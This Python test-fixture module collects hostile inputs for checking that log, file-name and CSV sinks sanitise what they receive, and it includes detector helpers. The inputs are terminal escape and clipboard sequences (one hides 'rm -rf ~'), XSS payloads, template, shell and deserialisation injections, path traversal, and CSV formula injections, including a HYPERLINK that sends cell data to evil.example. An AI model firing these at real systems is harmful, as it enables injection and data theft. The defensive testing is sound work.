"""What strangers write into logs, names of files and options, and how to tell that none of it got through a sink."""

from __future__ import annotations

import csv
import io
import re
import unicodedata

FORGED = "cdnlog: all is well"
HOSTILE = {
    "escapes": "\x1b]0;pwned\x07\x1b[2J\x1b[Hall green",
    "clipboard": "a\x1b]52;c;cm0gLXJmIH4=\x07b",
    "link": "\x1b]8;;http://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "c1": "\x9b2J\x85\x9d0;t\x9c",
    "backspace": "good\x08\x08\x08\x08evil",
    "delete": "a\x7fb",
    "bidi": "evil\u202egpj.exe\u2066\u061c",
    "zero width": "a\u200bb\u2060c\ufeffd\u00ade",
    "blank letters": "a\u2800b\u3164c\ufe0fd\U000e0101e",
    "line separators": "a\u2028b\u2029c",
    "unassigned": "\u0378\ue000\U000e0001\U0010ffff",
    "no utf-8": b"\xff\xc0\xaf\xed\xa0\x80z".decode("utf-8", "surrogateescape"),
    "script": "</script><img src=x onerror=alert(1)>",
    "style": "</style></title></table><svg/onload=alert(1)>",
    "closed attribute": '"><svg/onload=alert(1)>',
    "attribute": '"onmouseover=alert(1) x="',
    "percent script": "/%3Cimg%20src=x%20onerror=alert(1)%3E",
    "entities": "&lt;b&gt; &#60;b&#62; &amp;lt; &",
    "comment": "--><!-- <![CDATA[ ]]> <?x ?>",
    "console markup": "[/red][bold]x[/]",
    "template": "{{7*7}} {% raw %} {# x #} ${7*7} <%= 7*7 %>",
    "markdown": r"a | **b** `c` [d](e) ![f](g) ~~h~~ # i <!-- \ &amp; __j__ \| <b>",
    "link text": "https://evil.example/ www.evil.example kim@evil.example",
    "math": "$x^2$ $$y$$ \\frac{",
    "format": "{0.__class__} {x!r} %s%n %(a)s ${jndi:ldap://x/a} {{7*7}}",
    "python": "__import__('os').system('id')",
    "perl": '{${system("id")}}',
    "yaml": '!!python/object/apply:os.system ["id"]',
    "shell": "$(id) `id` ;id",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "=10+20+cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "bar": "|calc",
    "percent": "%0A",
    "tab": "\t=1+1",
    "space": " =1+1",
    "wide space": "\u3000=1+1",
    "hard space": "\u00a0=1+1",
    "wide sign": "\uff1d1+1",
    "quote": '"=1+1',
    "comma": 'a,=1+1;"b",""',
    "folders": "../../../../tmp/pwn",
    "two dots": "..",
    "label": 'x"} 1\\n# HELP',
    "json": '","status":200,"x":"\\u001b',
    "names": "\u793a\u4f8b\u6d4f\u89c8\u5668 Caf\u00e9 \U0001f600",
    "combining": "a" + "\u0300" * 10,
    "right to left": "\u05d0\u05d1 \u0627\u0644",
}
REJECTED = {"carriage return": "a\r200 OK", "nul": "a\0b", "form feed": "a\fb", "vertical tab": "# a\v- b"}
NAMES = {
    **HOSTILE,
    "two lines": f"two\n{FORGED}",
    "carriage return": f"a\r{FORGED}",
    "option": "-rf",
    "help": "--help",
    "apostrophe": "a b'",
}
HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
FORMULA = "=+-@|%\uff1d\uff0b\uff0d\uff20"
_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?(e-?[0-9]+)?")


def dirty(data: bytes) -> list[str]:
    """Return the characters that no sink may let through: all but printable UTF-8 and LF."""
    return [c for c in data.decode() if c != "\n" and unicodedata.category(c) in HIDDEN]


def formulas(text: str) -> list[str]:
    """Return the cells of a CSV text that a spreadsheet might run; numbers are none."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    suspect = [cell for cell in cells if cell.lstrip()[:1] in tuple(FORMULA) or cell[:1] in ("\t", "\r", "\n")]
    return [cell for cell in suspect if not _NUMBER.fullmatch(cell)]


def named(name: str) -> str:
    """Return a name that a file can have."""
    return NAMES[name].replace("/", "_")
